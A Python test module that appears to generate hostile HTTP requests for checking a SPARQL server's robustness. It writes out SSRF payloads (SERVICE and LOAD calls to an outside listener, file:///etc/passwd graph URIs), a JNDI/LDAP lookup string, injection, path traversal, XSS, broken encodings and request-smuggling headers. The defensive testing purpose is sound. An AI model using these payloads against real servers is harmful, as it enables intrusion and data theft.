"""Requests that mean harm, made by small programs: over 500 distinct ones, the same for the same seed and listener.

Each is the bytes of one HTTP request. None may kill the server, reach the listener, or get a part of an answer as 200.
"""

import random
from collections.abc import Iterator
from urllib.parse import quote

from benchmarks.serving import heavy
from benchmarks.serving.requests import NBS, SKOS, Hostile, get, post


def requests(listener: str, seed: int = 2026) -> list[Hostile]:
    """All of them, in random order.

    Args:
        listener: `host:port` of a socket that must never be connected to.
    """
    chosen = random.Random(seed)
    found = {
        hostile.request: hostile
        for hostile in (
            *heavy.cartesian(),
            *heavy.nested(),
            *heavy.doubling(),
            *heavy.paths(),
            *_outward(listener),
            *_injected(listener),
            *heavy.giant(),
            *_encodings(),
            *_mangled(chosen),
        )
    }
    made = list(found.values())
    chosen.shuffle(made)
    return made


def _outward(listener: str) -> Iterator[Hostile]:
    url = f"http://{listener}/sparql"
    calls = (
        "SERVICE <{u}> {{ ?s ?p ?o }}",
        "service<{u}>{{?s ?p ?o}}",
        "SerVice SILENT <{u}> {{ ?s ?p ?o }}",
        "SERVICE #\n<{u}> {{ ?s ?p ?o }}",
        "BIND(<{u}> AS ?u) SERVICE ?u {{ ?s ?p ?o }}",
        "VALUES ?u {{ <{u}> }} SERVICE SILENT ?u {{}}",
        "FILTER(1=1)SERVICE<{u}>{{}}",
        "\\u0053ERVICE <{u}> {{ ?s ?p ?o }}",
        "SERVI\\u0043E <{u}> {{ ?s ?p ?o }}",
        "SERVICE\t\f<{u}> {{ ?s ?p ?o }}",
        "?a ?b 1SERVICE<{u}>{{}}",
        "FILTER(?a<?b)SERVICE?x#>\n{{}}",
        "BIND(1 AS ?a)FILTER(?a<2)SERVICE<{u}>{{}}",
        "SERVICE <{u}> {{ SELECT * {{ ?s ?p ?o }} }}",
        "?x <{u}>|^<{u}> ?y . SERVICE <{u}> {{ }}",
        "ＳＥＲＶＩＣＥ <{u}> {{ ?s ?p ?o }}",
        "?s ?p 'x'SERVICE<{u}>{{}}",
        "SERVICE s:x {{ ?s ?p ?o }}",
    )
    frames = (
        "SELECT * {{ {c} }}",
        "ASK {{ OPTIONAL {{ {c} }} }}",
        "PREFIX s: <{u}/> SELECT * {{ {{ {c} }} UNION {{ }} }}",
        "CONSTRUCT {{ ?s ?p ?o }} WHERE {{ {{ SELECT * {{ {c} }} }} }}",
        "SELECT * {{ FILTER NOT EXISTS {{ {c} }} }}",
    )
    for call in calls:
        for frame in frames:
            yield Hostile("outward", post(frame.format(c=call.format(u=url), u=url)))
    for update in (
        "LOAD <{u}>",
        "LOAD SILENT <{u}> INTO GRAPH <{u}>",
        "INSERT DATA {{ <a:b> <c:d> 1 }}",
        "DROP ALL",
    ):
        text = update.format(u=url)
        yield Hostile("outward", post(text))
        yield Hostile("outward", post(text, type="application/sparql-update"))
        yield Hostile("outward", post(f"update={quote(text)}", type="application/x-www-form-urlencoded"))
        yield Hostile("outward", get(f"/sparql?update={quote(text)}"))
        yield Hostile("outward", post(f"ASK {{}} ; {text}"))
    for graph in (url, f"file:///etc/passwd#{listener}", f"ftp://{listener}/x", f"jar:{url}!/"):
        yield Hostile("outward", post(f"SELECT * FROM <{graph}> {{ ?s ?p ?o }} LIMIT 1"))
        yield Hostile("outward", post(f"SELECT * FROM NAMED <{graph}> {{ GRAPH ?g {{ ?s ?p ?o }} }} LIMIT 1"))
        yield Hostile("outward", post(f"DESCRIBE <{graph}>"))
        for name in ("default-graph-uri", "named-graph-uri"):
            yield Hostile(
                "outward", get(f"/sparql?query=ASK%7B%3Fs+%3Fp+%3Fo%7D&{name}={quote(graph, safe='')}")
            )
        yield Hostile("outward", get(f"/store?graph={quote(graph, safe='')}"))


def _injected(listener: str) -> Iterator[Hostile]:
    texts = (
        '13" } SELECT * { ?s ?p ?o',
        "13> . ?s ?p ?o } #",
        f"13 }} SERVICE <http://{listener}/> {{ ?s ?p ?o",
        "sdg:13 UNION",
        "\\u0022 }",
        "' OR '1'='1",
        "13\r\nX-Injected: yes",
        "${jndi:ldap://" + listener + "/a}",
        "../../../etc/passwd",
        "<script>alert(1)</script>",
        "\x00",
        "%00",
        "13" * 3000,
    )
    for text in texts:
        value = quote(text, safe="")
        yield Hostile("injection", get(f"/questions/entries-by-sdg?sdg={value}"))
        yield Hostile("injection", get(f"/questions/find?text={value}"))
        yield Hostile("injection", get(f"/questions/{value}"))
        yield Hostile("injection", get(f"/graph/{value}"))
        yield Hostile("injection", get("/healthz", f"X-Request-Id: {value}\r\nX-Forwarded-For: {value}\r\n"))
        yield Hostile("injection", get(f"/sparql?query=ASK%7B%7D&format={value}"))


def _encodings() -> Iterator[Hostile]:
    good = 'SELECT * { ?s ?p "森林" } LIMIT 1'
    for name in ("utf-16", "utf-16-le", "utf-32", "gb18030", "big5", "utf-7"):
        yield Hostile("encoding", post(good.encode(name)))
        yield Hostile("encoding", post(good.encode(name), type=f"application/sparql-query; charset={name}"))
        yield Hostile("encoding", get("/sparql?query=" + quote(good.encode(name))))
    for broken in (
        b"\xff",
        b"\xc0\x80",
        b"\xed\xa0\x80",
        b"\xf8\x88\x80\x80\x80",
        b"\xe6\xa3",
        b"\x00",
        b"\x80",
        b"\xf4\x90\x80\x80",
    ):
        text = b'ASK { ?s ?p "' + broken + b'" }'
        yield Hostile("encoding", post(text))
        yield Hostile(
            "encoding", post(b"query=" + quote(text).encode(), type="application/x-www-form-urlencoded")
        )
        yield Hostile("encoding", get("/sparql?query=" + quote(text)))
        yield Hostile("encoding", b"GET /sparql?query=ASK%7B%7D" + broken + b" HTTP/1.1\r\nHost: t\r\n\r\n")
        yield Hostile("encoding", b"GET /" + broken + b" HTTP/1.1\r\nHost: t\r\n\r\n")
        yield Hostile("encoding", get("/healthz").replace(b"Host: t", b"Host: " + broken))
    for escape in ("%", "%ZZ", "%u0041", "%E6%A3", "%00", "+%2B%2", "&&&&", "=&=", ";", "query=ASK{}&query"):
        yield Hostile("encoding", get(f"/sparql?query={escape}"))
    for letters in ("\\uD800", "\\U00110000", "\\u0000", "\\uZZZZ", "\u202e", "\ufeff", "\U000e0041"):
        yield Hostile("encoding", post(f'ASK {{ ?s ?p "{letters}" }}'))
        yield Hostile("encoding", post(f"ASK {{ ?s{letters} ?p ?o }}"))


def _mangled(chosen: random.Random) -> Iterator[Hostile]:
    """HTTP that is none, and queries with letters changed by chance."""
    body = b"ASK {}"
    start = b"POST /sparql HTTP/1.1\r\nHost: t\r\nContent-Type: application/sparql-query\r\n"
    for head in (
        b"Content-Length: -1\r\n",
        b"Content-Length: 6\r\nContent-Length: 7\r\n",
        b"Content-Length: 6\r\nTransfer-Encoding: chunked\r\n",
        b"Content-Length: 99999999999999999999\r\n",
        b"Transfer-Encoding: chunked, gzip\r\n",
        b"Content-Encoding: gzip\r\nContent-Length: 6\r\n",
        b"Content-Length: 6\r\nExpect: 200-ok\r\n",
        b"Content-Length : 6\r\n",
        b"Content-Length: 6\r\nConnection: upgrade\r\nUpgrade: websocket\r\n",
    ):
        yield Hostile("protocol", start + head + b"\r\n" + body)
    for line in (
        b"GET",
        b"\x16\x03\x01\x02",
        b"GET / HTTP/9.9",
        b"BREW /sparql HTTP/1.1",
        b"GET  /  HTTP/1.1",
        b"PRI * HTTP/2.0",
    ):
        yield Hostile("protocol", line + b"\r\nHost: t\r\n\r\n")
    for method in ("PUT", "DELETE", "PATCH", "TRACE", "CONNECT"):
        yield Hostile(
            "protocol", f"{method} /store?default HTTP/1.1\r\nHost: t\r\nContent-Length: 0\r\n\r\n".encode()
        )
    good = f"SELECT ?x (COUNT(?y) AS ?n) {{ ?x a <{NBS}Publication> . ?x <{SKOS}broader>* ?y }} GROUP BY ?x LIMIT 3"
    for _ in range(60):
        letters = list(good)
        for _ in range(chosen.randint(1, 6)):
            letters[chosen.randrange(len(letters))] = chosen.choice("{}()<>\"'\\#@^?*+|;.,:%\x00\n森S")
        yield Hostile("mangled query", post("".join(letters)))
